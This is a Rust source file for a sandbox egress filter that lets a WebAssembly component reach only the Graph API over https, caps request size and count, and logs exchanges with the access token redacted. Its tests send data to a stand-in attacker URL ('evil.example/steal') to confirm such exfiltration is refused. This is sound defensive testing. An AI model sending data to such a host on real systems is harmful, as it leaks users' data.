//! The one way out of the sandbox: every HTTP request the component makes
//! passes [`EgressHooks::send_request`], which decides from the request's
//! head alone whether it may go (only `https` on port 443 to the Graph API
//! host), caps what one execution may send, can redirect it (to a local
//! double), enforces the host's timeouts and records each exchange with
//! secrets redacted and bodies cut to a bounded size.

use crate::connections::{Connections, Outgoing, Timeouts};
use crate::secrets::{Redactor, Secret};
use bytes::{Bytes, BytesMut};
use http_body_util::{BodyExt, Full};
use serde::Serialize;
use std::fmt;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use wasmtime_wasi_http::{RequestOptions, WasiBody, WasiHttpHooks};

type HttpError = wasmtime_wasi_http::Error;
type IoFuture = Box<dyn Future<Output = Result<(), HttpError>> + Send>;
type SendFuture =
    Box<dyn Future<Output = Result<(http::Response<WasiBody>, IoFuture), HttpError>> + Send>;

/// The Graph API host the component talks to.
pub const GRAPH_HOST: &str = "graph.facebook.com";

/// Largest answer read from the Graph API; Meta's are a few hundred bytes.
const MAX_ANSWER: usize = 1 << 20;

/// Where requests may go, how long they may take and how much one
/// execution may send.
#[derive(Debug, Clone)]
pub struct EgressPolicy {
    /// Hosts the component may reach, over `https` on port 443 only.
    pub allowed_hosts: Vec<String>,
    /// A base URL (`http://127.0.0.1:8080`, with an optional path prefix)
    /// that receives the allowed requests instead of their real host. The
    /// component's own URL must still be `https` to an allowed host.
    pub redirect: Option<http::Uri>,
    /// Time to establish the connection.
    pub connect_timeout: Duration,
    /// Time from the request to the answer's first byte.
    pub first_byte_timeout: Duration,
    /// Longest pause while the answer streams.
    pub between_bytes_timeout: Duration,
    /// Largest request body, bytes. The largest legitimate request, 1,000
    /// events with every key and 40 line items each, is about 2.4 MB.
    pub max_request_body: usize,
    /// Requests one execution may make (the action makes one, or two when
    /// Meta refuses a click id and it sends again without it).
    pub max_requests: u32,
    /// Bytes of each body (request and answer) kept in a recorded exchange.
    pub max_recorded_body: usize,
    /// Secrets never recorded (the access token), replaced by `[redacted]`.
    pub redactor: Redactor,
    /// Benchmarks only (see [`EgressPolicy::answered_locally_for_benchmarks`]).
    local_answer: Option<(u16, String)>,
}

impl EgressPolicy {
    /// Allows the Graph API only, with Meta's recommended timeouts and the
    /// default caps.
    pub fn graph(redirect: Option<http::Uri>) -> Self {
        EgressPolicy {
            allowed_hosts: vec![GRAPH_HOST.to_string()],
            redirect,
            connect_timeout: Duration::from_millis(1500),
            first_byte_timeout: Duration::from_secs(3),
            between_bytes_timeout: Duration::from_millis(1500),
            max_request_body: 8 << 20,
            max_requests: 8,
            max_recorded_body: 64 << 10,
            redactor: Redactor::default(),
            local_answer: None,
        }
    }

    /// Allows nothing.
    pub fn deny_all() -> Self {
        EgressPolicy {
            allowed_hosts: Vec::new(),
            ..EgressPolicy::graph(None)
        }
    }

    /// The same policy, redacting `secrets` too.
    pub fn with_secrets<'a>(mut self, secrets: impl IntoIterator<Item = &'a Secret>) -> Self {
        self.redactor.extend(secrets);
        self
    }

    /// For benchmarks only: allowed requests are answered by the host itself
    /// with `status` and `body`, without any network, to measure the host's
    /// own overhead. Never in production: nothing reaches Meta.
    pub fn answered_locally_for_benchmarks(mut self, status: u16, body: &str) -> Self {
        self.local_answer = Some((status, body.to_string()));
        self
    }

    /// `text` with every secret replaced.
    pub fn redact(&self, text: &str) -> String {
        self.redactor.redact(text).into_owned()
    }

    /// Why a request with this URI may not go, judged from its head alone.
    fn refusal(&self, uri: &http::Uri) -> Option<String> {
        let host = uri.host().unwrap_or_default();
        if !self
            .allowed_hosts
            .iter()
            .any(|h| h.eq_ignore_ascii_case(host))
        {
            return Some(if self.allowed_hosts.is_empty() {
                format!("`{host}` is not an allowed host (this call may reach no host)")
            } else {
                format!(
                    "`{host}` is not an allowed host ({})",
                    self.allowed_hosts.join(", ")
                )
            });
        }
        if uri.scheme() != Some(&http::uri::Scheme::HTTPS) || uri.port_u16().unwrap_or(443) != 443 {
            return Some(format!(
                "only https on port 443 may reach `{host}`, so that the access token never travels in cleartext (asked: {}://{})",
                uri.scheme_str().unwrap_or("?"),
                uri.authority().map(|a| a.as_str()).unwrap_or(host)
            ));
        }
        None
    }
}

/// A cap of the egress policy that a request went past.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(tag = "cap", rename_all = "snake_case")]
pub enum EgressCap {
    /// The request body was larger than [`EgressPolicy::max_request_body`].
    RequestBody {
        /// The cap, bytes.
        limit: usize,
    },
    /// The execution made more than [`EgressPolicy::max_requests`] requests.
    Requests {
        /// The cap.
        limit: u32,
    },
}

impl fmt::Display for EgressCap {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EgressCap::RequestBody { limit } => write!(
                f,
                "request body cap reached: the component sent more than {} (max_request_body)",
                human_bytes(*limit)
            ),
            EgressCap::Requests { limit } => write!(
                f,
                "request cap reached: the component made more than {limit} requests in one execution (max_requests)"
            ),
        }
    }
}

/// `8 MiB`, `64 KiB`, `512 bytes`.
pub(crate) fn human_bytes(n: usize) -> String {
    if n >= 1 << 20 && n.is_multiple_of(1 << 20) {
        format!("{} MiB", n >> 20)
    } else if n >= 1 << 10 && n.is_multiple_of(1 << 10) {
        format!("{} KiB", n >> 10)
    } else {
        format!("{n} bytes")
    }
}

/// One request the component made and what came of it.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct Exchange {
    /// HTTP method.
    pub method: String,
    /// The URL the component asked for.
    pub url: String,
    /// Where the host sent it, when redirected.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sent_to: Option<String>,
    /// Request headers, `Authorization` redacted.
    pub request_headers: Vec<(String, String)>,
    /// Request body (the event JSON: hashes, never raw contact data), cut
    /// to [`EgressPolicy::max_recorded_body`].
    pub request_body: String,
    /// What came back.
    pub result: ExchangeResult,
    /// Milliseconds from the request to the end of the answer.
    pub elapsed_ms: u64,
}

impl Exchange {
    /// The same exchange without its request body, for reports that would
    /// otherwise repeat a large batch body once per event.
    pub fn without_request_body(&self) -> Exchange {
        Exchange {
            request_body: "(batch body, not repeated per event)".to_string(),
            ..self.clone()
        }
    }

    /// The cap this exchange went past, if any.
    pub fn cap(&self) -> Option<EgressCap> {
        match &self.result {
            ExchangeResult::Denied { cap, .. } => *cap,
            _ => None,
        }
    }
}

/// How an exchange ended.
#[derive(Debug, Clone, Serialize, PartialEq)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ExchangeResult {
    /// An HTTP answer.
    Answered {
        /// Status code.
        status: u16,
        /// Body, as text, cut to [`EgressPolicy::max_recorded_body`].
        body: String,
        /// Meta's trace id in a success answer, read from the whole body
        /// before the record cuts it: the acknowledgement an outcome the
        /// action reports as accepted must name (see
        /// [`Execution::require_acknowledgement`](crate::Execution::require_acknowledgement)).
        #[serde(skip_serializing_if = "Option::is_none")]
        fbtrace_id: Option<String>,
    },
    /// The host refused the request.
    Denied {
        /// Why.
        reason: String,
        /// The cap it went past, when that is why.
        #[serde(skip_serializing_if = "Option::is_none")]
        cap: Option<EgressCap>,
    },
    /// No answer: connection refused, timeout, cut answer.
    Failed {
        /// What happened.
        error: String,
    },
}

/// The `WasiHttpHooks` of one store (one execution).
pub(crate) struct EgressHooks {
    policy: Arc<EgressPolicy>,
    log: Arc<Mutex<Vec<Exchange>>>,
    requests: Arc<AtomicU32>,
    /// The engine's kept-alive connections.
    connections: Arc<Connections>,
}

impl EgressHooks {
    /// Starts counting a new execution's requests (in a reused instance).
    pub(crate) fn begin_execution(&mut self) {
        self.requests = Arc::new(AtomicU32::new(0));
    }

    /// Hooks applying `policy`, sending on `connections` and appending
    /// every exchange to `log`.
    pub(crate) fn new(
        policy: Arc<EgressPolicy>,
        log: Arc<Mutex<Vec<Exchange>>>,
        connections: Arc<Connections>,
    ) -> Self {
        EgressHooks {
            policy,
            log,
            requests: Arc::new(AtomicU32::new(0)),
            connections,
        }
    }
}

/// What is known of a request before its body is read, for the record.
struct Head {
    method: String,
    url: String,
    headers: Vec<(String, String)>,
    started: Instant,
}

impl Head {
    fn of(parts: &http::request::Parts, policy: &EgressPolicy) -> Head {
        Head {
            method: parts.method.to_string(),
            url: policy.redact(&parts.uri.to_string()),
            headers: parts
                .headers
                .iter()
                .map(|(k, v)| {
                    let value = if k == http::header::AUTHORIZATION {
                        "Bearer [redacted]".to_string()
                    } else {
                        policy.redact(&String::from_utf8_lossy(v.as_bytes()))
                    };
                    (k.to_string(), value)
                })
                .collect(),
            started: Instant::now(),
        }
    }
}

/// The `fbtrace_id` of a success answer (2xx) whose body is a JSON object
/// that has one.
fn success_trace_id(status: u16, body: &str) -> Option<String> {
    #[derive(serde::Deserialize)]
    struct Ack<'a> {
        #[serde(borrow)]
        fbtrace_id: Option<std::borrow::Cow<'a, str>>,
    }
    if !(200..300).contains(&status) {
        return None;
    }
    serde_json::from_str::<Ack>(body)
        .ok()?
        .fbtrace_id
        .map(std::borrow::Cow::into_owned)
}

/// Records exchanges of one request into the execution's log.
struct Recorder {
    policy: Arc<EgressPolicy>,
    log: Arc<Mutex<Vec<Exchange>>>,
    head: Head,
}

impl Recorder {
    fn record(&self, sent_to: Option<String>, body: &[u8], result: ExchangeResult) {
        let result = match result {
            ExchangeResult::Answered { status, body, .. } => ExchangeResult::Answered {
                status,
                fbtrace_id: success_trace_id(status, &body).map(|id| self.policy.redact(&id)),
                body: self.kept(body.as_bytes()),
            },
            other => other,
        };
        let exchange = Exchange {
            method: self.head.method.clone(),
            url: self.head.url.clone(),
            sent_to,
            request_headers: self.head.headers.clone(),
            request_body: self.kept(body),
            result,
            elapsed_ms: self.head.started.elapsed().as_millis() as u64,
        };
        self.log.lock().unwrap().push(exchange);
    }

    /// A body as kept in the record: cut to the cap where the cut splits
    /// no secret, then redacted. Only what is kept is decoded and searched:
    /// a megabyte batch body costs the record its first 64 KiB.
    fn kept(&self, body: &[u8]) -> String {
        let cap = self.policy.max_recorded_body;
        if body.len() <= cap {
            return self.policy.redact(&String::from_utf8_lossy(body));
        }
        let end = self.policy.redactor.safe_cut(body, cap);
        format!(
            "{}… ({} bytes in all; the record keeps {})",
            self.policy.redact(&String::from_utf8_lossy(&body[..end])),
            body.len(),
            human_bytes(cap)
        )
    }

    fn deny(&self, reason: String, cap: Option<EgressCap>) -> HttpError {
        self.record(None, &[], ExchangeResult::Denied { reason, cap });
        match cap {
            Some(EgressCap::RequestBody { .. }) => HttpError::HttpRequestBodySize(None),
            _ => HttpError::HttpRequestDenied,
        }
    }
}

/// A request body read up to a cap.
enum Body {
    /// The whole body (empty when it was only drained).
    Complete(Bytes),
    /// It went past the cap; reading stopped there.
    OverCap,
}

/// Reads `body` frame by frame, keeping it when `keep`, never more than
/// `cap` bytes: a guest streaming without end costs the host nothing.
/// `announced` is the length the request's `Content-Length` gives, if any:
/// room for it (up to `cap`) is made at once, where growing a batch's
/// megabyte by doubling would copy it again at each step and touch twice
/// the fresh memory.
async fn read_body(
    mut body: WasiBody,
    cap: usize,
    keep: bool,
    announced: Option<usize>,
) -> Result<Body, HttpError> {
    let room = if keep {
        announced.unwrap_or(0).min(cap)
    } else {
        0
    };
    let mut kept = BytesMut::with_capacity(room);
    let mut seen = 0usize;
    while let Some(frame) = body.frame().await {
        let Ok(data) = frame?.into_data() else {
            continue;
        };
        seen = seen.saturating_add(data.len());
        if seen > cap {
            return Ok(Body::OverCap);
        }
        if keep {
            kept.extend_from_slice(&data);
        }
    }
    Ok(Body::Complete(kept.freeze()))
}

fn full(bytes: Bytes) -> WasiBody {
    Full::new(bytes).map_err(|n| match n {}).boxed_unsync()
}

impl WasiHttpHooks for EgressHooks {
    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        _options: Option<RequestOptions>,
        _fut: IoFuture,
    ) -> SendFuture {
        let policy = self.policy.clone();
        let connections = self.connections.clone();
        let made = self.requests.fetch_add(1, Ordering::Relaxed) + 1;
        let (parts, body) = request.into_parts();
        let recorder = Recorder {
            head: Head::of(&parts, &policy),
            policy: policy.clone(),
            log: self.log.clone(),
        };
        Box::new(async move {
            // Allow or deny from the head, before any of the body is read.
            let refusal = if made > policy.max_requests {
                let cap = EgressCap::Requests {
                    limit: policy.max_requests,
                };
                Some((cap.to_string(), Some(cap)))
            } else {
                policy.refusal(&parts.uri).map(|why| (why, None))
            };
            if let Some((reason, cap)) = refusal {
                // The guest writes the body after handing over the request:
                // drain it (discarding, up to the cap) so that the refusal
                // reaches it as `HttpRequestDenied`, not as a broken stream.
                let _ = read_body(body, policy.max_request_body, false, None).await;
                return Err(recorder.deny(reason, cap));
            }
            let announced = parts
                .headers
                .get(http::header::CONTENT_LENGTH)
                .and_then(|v| v.to_str().ok()?.parse().ok());
            let body = match read_body(body, policy.max_request_body, true, announced).await {
                Ok(Body::Complete(b)) => b,
                Ok(Body::OverCap) => {
                    let cap = EgressCap::RequestBody {
                        limit: policy.max_request_body,
                    };
                    return Err(recorder.deny(cap.to_string(), Some(cap)));
                }
                Err(e) => {
                    recorder.record(
                        None,
                        &[],
                        ExchangeResult::Failed {
                            error: format!("request body: {e}"),
                        },
                    );
                    return Err(e);
                }
            };
            if let Some((status, answer)) = &policy.local_answer {
                return Ok(local(&recorder, &body, *status, answer));
            }
            let (parts, sent_to) = redirected(parts, &policy)?;
            forward(&recorder, &connections, parts, body, sent_to).await
        })
    }
}

/// The request sent to the redirect base instead of its own host, and the
/// redacted address it went to.
fn redirected(
    mut parts: http::request::Parts,
    policy: &EgressPolicy,
) -> Result<(http::request::Parts, Option<String>), HttpError> {
    let Some(base) = &policy.redirect else {
        return Ok((parts, None));
    };
    let prefix = base.path().trim_end_matches('/');
    let pq = parts
        .uri
        .path_and_query()
        .map(|p| p.as_str())
        .unwrap_or("/");
    let target = http::Uri::builder()
        .scheme(base.scheme().cloned().unwrap_or(http::uri::Scheme::HTTP))
        .authority(
            base.authority()
                .cloned()
                .ok_or(HttpError::HttpRequestUriInvalid)?,
        )
        .path_and_query(format!("{prefix}{pq}"))
        .build()
        .map_err(|_| HttpError::HttpRequestUriInvalid)?;
    let sent_to = Some(policy.redact(&target.to_string()));
    parts.headers.insert(
        http::header::HOST,
        http::HeaderValue::from_str(target.authority().map(|a| a.as_str()).unwrap_or_default())
            .map_err(|_| HttpError::HttpRequestUriInvalid)?,
    );
    parts.uri = target;
    Ok((parts, sent_to))
}

/// Sends the request with the host's timeouts (the guest's are ignored)
/// on a kept-alive connection, reads the whole answer so it can be
/// recorded, and hands it back.
async fn forward(
    recorder: &Recorder,
    connections: &Arc<Connections>,
    parts: http::request::Parts,
    body: Bytes,
    sent_to: Option<String>,
) -> Result<(http::Response<WasiBody>, IoFuture), HttpError> {
    let policy = &recorder.policy;
    let timeouts = Timeouts {
        connect: policy.connect_timeout,
        first_byte: policy.first_byte_timeout,
        between_bytes: policy.between_bytes_timeout,
    };
    let outgoing = Outgoing {
        head: &parts,
        body: body.clone(),
    };
    match connections
        .send(&parts.uri, outgoing, timeouts, MAX_ANSWER)
        .await
    {
        Ok(answer) => {
            recorder.record(
                sent_to,
                &body,
                ExchangeResult::Answered {
                    status: answer.head.status.as_u16(),
                    body: String::from_utf8_lossy(&answer.body).into_owned(),
                    // Read by the recorder, from the whole body.
                    fbtrace_id: None,
                },
            );
            let response = http::Response::from_parts(answer.head, full(answer.body));
            Ok((response, Box::new(async { Ok(()) }) as IoFuture))
        }
        Err(failed) => {
            recorder.record(
                sent_to,
                &body,
                ExchangeResult::Failed {
                    error: failed.detail,
                },
            );
            Err(failed.error)
        }
    }
}

/// The benchmark's answer from the host itself.
fn local(
    recorder: &Recorder,
    body: &Bytes,
    status: u16,
    answer: &str,
) -> (http::Response<WasiBody>, IoFuture) {
    recorder.record(
        Some("(answered by the host)".into()),
        body,
        ExchangeResult::Answered {
            status,
            body: answer.to_string(),
            // Read by the recorder, from the whole body.
            fbtrace_id: None,
        },
    );
    let response = http::Response::builder()
        .status(status)
        .header(http::header::CONTENT_TYPE, "application/json")
        .body(full(Bytes::from(answer.to_string())))
        .expect("a valid status and header");
    (response, Box::new(async { Ok(()) }) as IoFuture)
}

#[cfg(test)]
mod tests {
    use super::*;

    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    fn request(url: &str, body: &'static str) -> http::Request<WasiBody> {
        http::Request::post(url)
            .header("authorization", "Bearer tok-123")
            .body(
                Full::new(Bytes::from_static(body.as_bytes()))
                    .map_err(|n| match n {})
                    .boxed_unsync(),
            )
            .unwrap()
    }

    async fn send(
        policy: EgressPolicy,
        req: http::Request<WasiBody>,
    ) -> (Result<u16, HttpError>, Vec<Exchange>) {
        let log: Arc<Mutex<Vec<Exchange>>> = Default::default();
        let mut hooks = EgressHooks::new(Arc::new(policy), log.clone(), Default::default());
        let fut = hooks.send_request(req, None, Box::new(async { Ok(()) }));
        let r = Box::into_pin(fut)
            .await
            .map(|(resp, _)| resp.status().as_u16());
        let exchanges = log.lock().unwrap().clone();
        (r, exchanges)
    }

    /// A body that streams 64 KiB chunks without end, counting what was read.
    struct Endless(Arc<std::sync::atomic::AtomicUsize>);

    impl hyper::body::Body for Endless {
        type Data = Bytes;
        type Error = HttpError;
        fn poll_frame(
            self: std::pin::Pin<&mut Self>,
            _cx: &mut std::task::Context<'_>,
        ) -> std::task::Poll<Option<Result<hyper::body::Frame<Bytes>, HttpError>>> {
            self.0.fetch_add(64 << 10, Ordering::Relaxed);
            std::task::Poll::Ready(Some(Ok(hyper::body::Frame::data(Bytes::from(vec![
                b'x';
                64 << 10
            ])))))
        }
    }

    fn endless(url: &str) -> (http::Request<WasiBody>, Arc<std::sync::atomic::AtomicUsize>) {
        let read = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let req = http::Request::post(url)
            .body(Endless(read.clone()).boxed_unsync())
            .unwrap();
        (req, read)
    }

    #[tokio::test]
    async fn an_endless_body_costs_the_host_at_most_the_cap() {
        let mut policy = EgressPolicy::graph(None);
        policy.max_request_body = 1 << 20;
        for url in [
            "https://evil.example/steal",
            "https://graph.facebook.com/v24.0/1/events",
        ] {
            let (req, read) = endless(url);
            let (r, log) = send(policy.clone(), req).await;
            assert!(r.is_err(), "{url}");
            assert!(
                read.load(Ordering::Relaxed) <= (1 << 20) + (64 << 10),
                "{url}: read {} bytes",
                read.load(Ordering::Relaxed)
            );
            assert_eq!(log.len(), 1);
            assert!(log[0].request_body.is_empty());
        }
        let (req, _) = endless("https://graph.facebook.com/v24.0/1/events");
        let (r, log) = send(policy, req).await;
        assert!(matches!(r, Err(HttpError::HttpRequestBodySize(_))), "{r:?}");
        assert_eq!(
            log[0].cap(),
            Some(EgressCap::RequestBody { limit: 1 << 20 })
        );
        let ExchangeResult::Denied { reason, .. } = &log[0].result else {
            panic!("{:?}", log[0].result)
        };
        assert!(reason.contains("1 MiB (max_request_body)"), "{reason}");
    }

    #[tokio::test]
    async fn a_success_answer_keeps_its_trace_id_whole_in_the_record() {
        // The record keeps 8 bytes of each body; the trace id is read first.
        let answer = r#"{"events_received":1,"messages":[],"fbtrace_id":"AbC-9_x"}"#;
        let mut policy = EgressPolicy::graph(None).answered_locally_for_benchmarks(200, answer);
        policy.max_recorded_body = 8;
        let (r, log) = send(
            policy,
            request("https://graph.facebook.com/v24.0/1/events", "{}"),
        )
        .await;
        assert_eq!(r.unwrap(), 200);
        let ExchangeResult::Answered {
            body, fbtrace_id, ..
        } = &log[0].result
        else {
            panic!("{:?}", log[0].result)
        };
        assert!(!body.contains("AbC"), "{body}");
        assert_eq!(fbtrace_id.as_deref(), Some("AbC-9_x"));

        assert_eq!(success_trace_id(200, answer).as_deref(), Some("AbC-9_x"));
        assert_eq!(
            success_trace_id(400, r#"{"error":{"fbtrace_id":"E"},"fbtrace_id":"E"}"#),
            None,
            "a refusal acknowledges nothing"
        );
        assert_eq!(success_trace_id(200, "<html>ok</html>"), None);
        assert_eq!(success_trace_id(200, r#"{"events_received":1}"#), None);
        assert_eq!(success_trace_id(200, r#"{"fbtrace_id":7}"#), None);
    }

    #[tokio::test]
    async fn cleartext_and_other_ports_are_refused_before_the_body_is_read() {
        for url in [
            "http://graph.facebook.com/v24.0/1/events",
            "https://graph.facebook.com:8443/v24.0/1/events",
        ] {
            let (req, read) = endless(url);
            let (r, log) = send(EgressPolicy::graph(None), req).await;
            assert!(matches!(r, Err(HttpError::HttpRequestDenied)), "{url}");
            let ExchangeResult::Denied { reason, cap: None } = &log[0].result else {
                panic!("{:?}", log[0].result)
            };
            assert!(reason.contains("only https on port 443"), "{reason}");
            assert!(read.load(Ordering::Relaxed) <= (8 << 20) + (64 << 10));
        }
    }

    #[tokio::test]
    async fn one_execution_may_make_only_so_many_requests() {
        let (base, _server) = one_shot("{}").await;
        let mut policy = EgressPolicy::graph(Some(base.parse().unwrap()));
        policy.max_requests = 1;
        let log: Arc<Mutex<Vec<Exchange>>> = Default::default();
        let mut hooks = EgressHooks::new(Arc::new(policy), log.clone(), Default::default());
        let url = "https://graph.facebook.com/v24.0/1/events";
        let first = hooks.send_request(request(url, "{}"), None, Box::new(async { Ok(()) }));
        assert!(Box::into_pin(first).await.is_ok());
        let second = hooks.send_request(request(url, "{}"), None, Box::new(async { Ok(()) }));
        assert!(matches!(
            Box::into_pin(second).await,
            Err(HttpError::HttpRequestDenied)
        ));
        let log = log.lock().unwrap();
        assert_eq!(log[1].cap(), Some(EgressCap::Requests { limit: 1 }));
    }

    #[tokio::test]
    async fn a_recorded_body_is_cut_to_its_cap_before_a_secret_it_would_split() {
        let (base, _server) = one_shot("{}").await;
        let mut policy = EgressPolicy::graph(Some(base.parse().unwrap()))
            .with_secrets(&[Secret::new("tok-123")]);
        policy.max_recorded_body = 8;
        let body: &'static str = "1234567tok-123tok-123tok-123";
        let (r, log) = send(
            policy,
            request("https://graph.facebook.com/v24.0/1/events", body),
        )
        .await;
        assert_eq!(r.unwrap(), 200);
        // The cap falls inside the first token: the record stops before it.
        assert!(
            log[0].request_body.starts_with("1234567… (28 bytes in all"),
            "{}",
            log[0].request_body
        );
        assert!(
            !log[0].request_body.contains("tok"),
            "{}",
            log[0].request_body
        );
    }

    /// A one-shot HTTP server answering 200 with `answer` to one request, returning
    /// what it received.
    async fn one_shot(answer: &'static str) -> (String, tokio::task::JoinHandle<String>) {
        let reply = format!(
            "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{answer}",
            answer.len()
        );
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let task = tokio::spawn(async move {
            let (mut sock, _) = listener.accept().await.unwrap();
            let mut buf = vec![0u8; 8192];
            let mut got = Vec::new();
            loop {
                let n = sock.read(&mut buf).await.unwrap();
                got.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&got);
                if let Some(end) = text.find("\r\n\r\n") {
                    let len = text
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length: ")
                                .map(|v| v.trim().parse::<usize>().unwrap())
                        })
                        .unwrap_or(0);
                    if got.len() >= end + 4 + len {
                        break;
                    }
                }
                if n == 0 {
                    break;
                }
            }
            sock.write_all(reply.as_bytes()).await.unwrap();
            String::from_utf8_lossy(&got).into_owned()
        });
        (format!("http://{addr}"), task)
    }

    #[tokio::test]
    async fn other_hosts_are_denied_and_recorded() {
        let (r, log) = send(
            EgressPolicy::graph(None),
            request("https://evil.example/steal", "{\"em\":1}"),
        )
        .await;
        assert!(matches!(r, Err(HttpError::HttpRequestDenied)));
        assert_eq!(log.len(), 1);
        assert!(matches!(log[0].result, ExchangeResult::Denied { .. }));
        assert_eq!(
            log[0].request_body, "",
            "a refused body is drained, never kept"
        );
    }

    #[tokio::test]
    async fn graph_requests_are_redirected_and_the_token_never_recorded() {
        let (base, server) = one_shot("{\"events_received\":1,\"fbtrace_id\":\"tok-123\"}").await;
        let policy = EgressPolicy::graph(Some(format!("{base}/prefix").parse().unwrap()))
            .with_secrets(&[Secret::new("tok-123")]);
        let (r, log) = send(
            policy,
            request(
                "https://graph.facebook.com/v24.0/1/events?access_token=tok-123",
                "{}",
            ),
        )
        .await;
        assert_eq!(r.unwrap(), 200);
        let seen = server.await.unwrap();
        assert!(seen.starts_with("POST /prefix/v24.0/1/events"), "{seen}");
        let recorded = serde_json::to_string(&log).unwrap();
        assert!(!recorded.contains("tok-123"), "{recorded}");
        assert!(recorded.contains("Bearer [redacted]"));
    }

    #[tokio::test]
    async fn a_silent_server_times_out_quickly() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let _hold = tokio::spawn(async move {
            let (_sock, _) = listener.accept().await.unwrap();
            tokio::time::sleep(Duration::from_secs(30)).await;
        });
        let mut policy = EgressPolicy::graph(Some(format!("http://{addr}").parse().unwrap()));
        policy.first_byte_timeout = Duration::from_millis(200);
        let started = Instant::now();
        let (r, log) = send(
            policy,
            request("https://graph.facebook.com/v24.0/1/events", "{}"),
        )
        .await;
        assert!(r.is_err());
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "the host's timeout applies, not 600 s"
        );
        assert!(matches!(log[0].result, ExchangeResult::Failed { .. }));
    }
}
